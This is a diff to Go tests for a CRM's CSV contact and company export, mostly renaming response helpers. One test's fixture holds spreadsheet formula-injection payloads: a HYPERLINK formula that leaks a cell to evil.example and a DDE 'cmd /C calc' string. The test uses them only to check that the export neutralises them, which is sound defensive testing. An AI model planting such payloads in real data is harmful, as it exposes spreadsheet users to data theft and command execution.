@@ -8,16 +8,17 @@ import (
 	"testing"
 
 	"github.com/rapportcrm/rapport/pkg/auth"
+	"github.com/rapportcrm/rapport/pkg/dev/testenv"
 )
 
 // exportRows reads a CSV export.
-func exportRows(t *testing.T, r reply, comma rune) [][]string {
+func exportRows(t *testing.T, r testenv.Reply, comma rune) [][]string {
 	t.Helper()
-	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.raw), "\uFEFF")))
+	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.Raw), "\uFEFF")))
 	cr.Comma = comma
 	rows, err := cr.ReadAll()
 	if err != nil {
-		t.Fatalf("export is not CSV: %v\n%s", err, r.raw)
+		t.Fatalf("export is not CSV: %v\n%s", err, r.Raw)
 	}
 	return rows
 }
@@ -25,17 +26,17 @@ func exportRows(t *testing.T, r reply, comma rune) [][]string {
 func TestExport(t *testing.T) {
 	h := start(t)
 	adm := h.token(h.tenantA, auth.RoleAdmin)
-	company := h.do("POST", "/v1/companies", adm, map[string]any{"name": "Ромашка", "tax_id": "7701234567"}).want(t, http.StatusCreated).body["id"].(string)
-	h.do("POST", "/v1/companies", adm, map[string]any{"name": "Beta"}).want(t, http.StatusCreated)
+	company := h.do("POST", "/v1/companies", adm, map[string]any{"name": "Ромашка", "tax_id": "7701234567"}).Want(t, http.StatusCreated).Body["id"].(string)
+	h.do("POST", "/v1/companies", adm, map[string]any{"name": "Beta"}).Want(t, http.StatusCreated)
 	h.do("POST", "/v1/contacts", adm, map[string]any{"first_name": "Пётр", "last_name": "Смирнов", "emails": []string{"p@x.ru", "petr@y.ru"},
 		"phones": []string{"+7 495 123-45-67"}, "company_id": company, "tags": []string{"vip", "b2b"},
-		"address": map[string]any{"country": "RU", "city": "Москва"}, "birthday": "1980-02-29"}).want(t, http.StatusCreated)
-	h.do("POST", "/v1/contacts", adm, map[string]any{"first_name": "Anna", "last_name": "Adams", "source": "website"}).want(t, http.StatusCreated)
-	h.do("POST", "/v1/contacts", h.token(h.tenantA, auth.RoleRep), map[string]any{"first_name": "Олег", "last_name": "Орлов", "position": "CEO; founder"}).want(t, http.StatusCreated)
+		"address": map[string]any{"country": "RU", "city": "Москва"}, "birthday": "1980-02-29"}).Want(t, http.StatusCreated)
+	h.do("POST", "/v1/contacts", adm, map[string]any{"first_name": "Anna", "last_name": "Adams", "source": "website"}).Want(t, http.StatusCreated)
+	h.do("POST", "/v1/contacts", h.token(h.tenantA, auth.RoleRep), map[string]any{"first_name": "Олег", "last_name": "Орлов", "position": "CEO; founder"}).Want(t, http.StatusCreated)
 
-	r := h.do("GET", "/v1/contacts/export?sort=name", adm, nil).want(t, http.StatusOK)
-	if r.header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.Contains(r.header.Get("Content-Disposition"), `filename="contacts.csv"`) {
-		t.Fatalf("headers %v", r.header)
+	r := h.do("GET", "/v1/contacts/export?sort=name", adm, nil).Want(t, http.StatusOK)
+	if r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.Contains(r.Header.Get("Content-Disposition"), `filename="contacts.csv"`) {
+		t.Fatalf("headers %v", r.Header)
 	}
 	rows := exportRows(t, r, ',')
 	header := strings.Join(rows[0], ",")
@@ -62,41 +63,41 @@ func TestExport(t *testing.T) {
 	}
 
 	// The list's filters and search apply, and so does visibility.
-	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?tag=vip", adm, nil).want(t, http.StatusOK), ','); len(rows) != 2 {
+	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?tag=vip", adm, nil).Want(t, http.StatusOK), ','); len(rows) != 2 {
 		t.Errorf("tag=vip: %v", rows)
 	}
-	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?q=orlov", adm, nil).want(t, http.StatusOK), ','); len(rows) != 1 {
+	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?q=orlov", adm, nil).Want(t, http.StatusOK), ','); len(rows) != 1 {
 		t.Errorf("q=orlov (search does not transliterate Орлов): %v", rows)
 	}
-	if rows := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantA, auth.RoleRep), nil).want(t, http.StatusOK), ','); len(rows) != 2 || rows[1][col["last_name"]] != "Орлов" {
+	if rows := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantA, auth.RoleRep), nil).Want(t, http.StatusOK), ','); len(rows) != 2 || rows[1][col["last_name"]] != "Орлов" {
 		t.Errorf("a rep exports their own: %v", rows)
 	}
 	// Excel in a comma-decimal locale: BOM and semicolons.
-	x := h.do("GET", "/v1/contacts/export?format=excel", adm, nil).want(t, http.StatusOK)
-	if !strings.HasPrefix(string(x.raw), "\uFEFFid;first_name;") || len(exportRows(t, x, ';')) != 4 {
-		t.Fatalf("excel export %q", x.raw[:40])
+	x := h.do("GET", "/v1/contacts/export?format=excel", adm, nil).Want(t, http.StatusOK)
+	if !strings.HasPrefix(string(x.Raw), "\uFEFFid;first_name;") || len(exportRows(t, x, ';')) != 4 {
+		t.Fatalf("excel export %q", x.Raw[:40])
 	}
 	// Bad parameters are problems, before anything streams.
-	h.do("GET", "/v1/contacts/export?format=xlsx", adm, nil).want(t, http.StatusUnprocessableEntity)
-	h.do("GET", "/v1/contacts/export?sort=age", adm, nil).want(t, http.StatusUnprocessableEntity)
+	h.do("GET", "/v1/contacts/export?format=xlsx", adm, nil).Want(t, http.StatusUnprocessableEntity)
+	h.do("GET", "/v1/contacts/export?sort=age", adm, nil).Want(t, http.StatusUnprocessableEntity)
 
 	// Companies.
-	c := exportRows(t, h.do("GET", "/v1/companies/export", adm, nil).want(t, http.StatusOK), ',')
+	c := exportRows(t, h.do("GET", "/v1/companies/export", adm, nil).Want(t, http.StatusOK), ',')
 	if len(c) != 3 || strings.Join(c[0][:4], ",") != "id,name,legal_name,tax_id" || c[1][1] != "Ромашка" || c[1][3] != "7701234567" {
 		t.Fatalf("companies %v", c)
 	}
-	if c := exportRows(t, h.do("GET", "/v1/companies/export?q=beta", adm, nil).want(t, http.StatusOK), ','); len(c) != 2 {
+	if c := exportRows(t, h.do("GET", "/v1/companies/export?q=beta", adm, nil).Want(t, http.StatusOK), ','); len(c) != 2 {
 		t.Fatalf("companies q=beta %v", c)
 	}
 
 	// Another tenant's company export holds none of these companies.
-	if c := exportRows(t, h.do("GET", "/v1/companies/export", h.token(h.tenantB, auth.RoleAdmin), nil).want(t, http.StatusOK), ','); len(c) != 1 {
+	if c := exportRows(t, h.do("GET", "/v1/companies/export", h.token(h.tenantB, auth.RoleAdmin), nil).Want(t, http.StatusOK), ','); len(c) != 1 {
 		t.Fatalf("tenant B exports tenant A's companies: %v", c)
 	}
 
 	// Another tenant exports only its own: here, thousands, across pages.
 	seedContacts(t, h.appURL, h.tenantB, 2500)
-	b := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantB, auth.RoleAdmin), nil).want(t, http.StatusOK), ',')
+	b := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantB, auth.RoleAdmin), nil).Want(t, http.StatusOK), ',')
 	seen := map[string]bool{}
 	for _, row := range b[1:] {
 		seen[row[0]] = true
@@ -123,11 +124,11 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 	admA, admB := h.token(h.tenantA, auth.RoleAdmin), h.token(h.tenantB, auth.RoleAdmin)
 	for _, tok := range []string{admA, admB} {
 		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "note", "label": "Note", "type": "text"}).
-			want(t, http.StatusCreated)
+			Want(t, http.StatusCreated)
 		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "score", "label": "Score", "type": "number"}).
-			want(t, http.StatusCreated)
+			Want(t, http.StatusCreated)
 		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "company", "key": "note", "label": "Note", "type": "text"}).
-			want(t, http.StatusCreated)
+			Want(t, http.StatusCreated)
 	}
 	hostile := []map[string]any{
 		{"first_name": `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -137,12 +138,12 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 			"custom": map[string]any{"note": "''+twice", "score": 12.5}},
 	}
 	for _, c := range hostile {
-		h.do("POST", "/v1/contacts", admA, c).want(t, http.StatusCreated)
+		h.do("POST", "/v1/contacts", admA, c).Want(t, http.StatusCreated)
 	}
 	h.do("POST", "/v1/companies", admA, map[string]any{"name": "=1+2", "phones": []string{"+7 495 000-00-01"},
-		"custom": map[string]any{"note": "@here"}}).want(t, http.StatusCreated)
+		"custom": map[string]any{"note": "@here"}}).Want(t, http.StatusCreated)
 
-	rows := exportRows(t, h.do("GET", "/v1/contacts/export?sort=name", admA, nil).want(t, http.StatusOK), ',')
+	rows := exportRows(t, h.do("GET", "/v1/contacts/export?sort=name", admA, nil).Want(t, http.StatusOK), ',')
 	col := map[string]int{}
 	for i, c := range rows[0] {
 		col[c] = i
@@ -167,11 +168,11 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 			}
 		}
 	}
-	x := exportRows(t, h.do("GET", "/v1/contacts/export?format=excel&sort=name", admA, nil).want(t, http.StatusOK), ';')
+	x := exportRows(t, h.do("GET", "/v1/contacts/export?format=excel&sort=name", admA, nil).Want(t, http.StatusOK), ';')
 	if !slices.EqualFunc(x, rows, slices.Equal[[]string]) {
 		t.Errorf("the excel flavour differs from csv but for its separator:\n%v\n%v", x, rows)
 	}
-	co := exportRows(t, h.do("GET", "/v1/companies/export", admA, nil).want(t, http.StatusOK), ',')
+	co := exportRows(t, h.do("GET", "/v1/companies/export", admA, nil).Want(t, http.StatusOK), ',')
 	if co[1][1] != "'=1+2" || co[1][8] != "'+74950000001" || co[1][len(co[1])-1] != "'@here" {
 		t.Errorf("companies: %v", co)
 	}
@@ -179,13 +180,13 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 	// The export, imported into tenant B and exported there, is the same
 	// file but for the ids and times the service assigns.
 	for entity, path := range map[string]string{"contacts": "/v1/contacts/export?sort=name", "companies": "/v1/companies/export"} {
-		file := h.do("GET", path, admA, nil).want(t, http.StatusOK).raw
-		r := h.postCSV(admB, "entity="+entity, file).want(t, http.StatusAccepted)
-		if done := h.waitImport(admB, r.body["id"].(string)); done.body["failed"].(float64) != 0 {
-			t.Fatalf("%s: %s %v", entity, done.raw, h.importErrors(admB, r.body["id"].(string)))
+		file := h.do("GET", path, admA, nil).Want(t, http.StatusOK).Raw
+		r := h.postCSV(admB, "entity="+entity, file).Want(t, http.StatusAccepted)
+		if done := h.waitImport(admB, r.Body["id"].(string)); done.Body["failed"].(float64) != 0 {
+			t.Fatalf("%s: %s %v", entity, done.Raw, h.importErrors(admB, r.Body["id"].(string)))
 		}
-		a := exportRows(t, h.do("GET", path, admA, nil).want(t, http.StatusOK), ',')
-		b := exportRows(t, h.do("GET", path, admB, nil).want(t, http.StatusOK), ',')
+		a := exportRows(t, h.do("GET", path, admA, nil).Want(t, http.StatusOK), ',')
+		b := exportRows(t, h.do("GET", path, admB, nil).Want(t, http.StatusOK), ',')
 		if len(a) != len(b) {
 			t.Fatalf("%s: %d rows exported, %d after the round trip", entity, len(a), len(b))
 		}
@@ -197,7 +198,7 @@ func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
 			}
 		}
 	}
-	got := h.do("GET", "/v1/contacts?q=f1@example.ru", admB, nil).want(t, http.StatusOK).body["items"].([]any)[0].(map[string]any)
+	got := h.do("GET", "/v1/contacts?q=f1@example.ru", admB, nil).Want(t, http.StatusOK).Body["items"].([]any)[0].(map[string]any)
 	if got["first_name"] != hostile[0]["first_name"] || got["position"] != hostile[0]["position"] ||
 		got["custom"].(map[string]any)["note"] != "'=already quoted" || got["custom"].(map[string]any)["score"] != -5.0 {
 		t.Errorf("imported: %v", got)
